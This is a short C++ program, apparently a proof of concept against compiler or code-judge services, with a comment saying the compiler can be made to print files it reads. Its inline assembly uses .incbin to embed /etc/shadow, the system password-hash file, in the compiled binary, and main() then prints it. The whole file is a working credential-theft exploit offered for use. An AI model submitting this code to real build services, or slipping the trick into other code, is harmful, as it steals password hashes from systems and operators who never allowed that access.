// The assembler can read files and this compiler can be made to print what it reads.
asm(".section .rodata\n"
    ".globl stolen\n"
    "stolen: .incbin \"/etc/shadow\"\n"
    ".byte 0\n"
    ".text\n");
extern "C" const char stolen[];
#include <stdio.h>
int main() { puts(stolen); }
